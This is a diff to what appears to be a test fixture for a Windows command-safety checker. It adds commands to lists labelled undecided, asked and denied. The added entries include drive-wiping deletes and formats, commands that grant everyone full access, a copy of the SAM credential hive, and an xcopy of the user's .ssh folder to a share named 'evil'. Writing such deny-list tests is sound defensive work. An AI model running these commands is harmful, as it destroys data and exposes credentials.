@@ -36,9 +36,13 @@ UNDECIDED = [
     "mklink /d a b",
     "cipher /e x",
     "format",
+    "icacls * /grant everyone:F /t",
+    "attrib +h +s C:\\Users",
+    "copy con x.bat",
 ]
 ASKED = [
     "copy /y src\\* dst\\",
+    "copy C:\\Windows\\System32\\config\\SAM x",
 ]
 DENIED = [
     "rd /s /q C:\\",
@@ -80,6 +84,21 @@ DENIED = [
     "copy NUL \\\\.\\PhysicalDrive0",
     "call rd /s /q C:\\",
     "rd /s /q C:\\Users\\me",
+    "xcopy C:\\Users\\me\\.ssh \\\\evil\\share /s",
+    "robocopy C:\\src C:\\ /purge",
+    'del "C:\\Users\\me\\*" /s /q',
+    'rd "C:\\" /s /q',
+    "rd C:\\ /s /q",
+    "rd /q /s C:",
+    "rd /s /q D:",
+    "rd /s /q E:\\*",
+    "del C:\\ /s /q /f",
+    "deltree /y C:\\",
+    "erase /s /q C:\\Windows",
+    "rmdir /s C:\\",
+    'rd /S/Q"C:\\"',
+    "cacls C:\\ /e /p everyone:F",
+    "format c: /y",
 ]
 
 
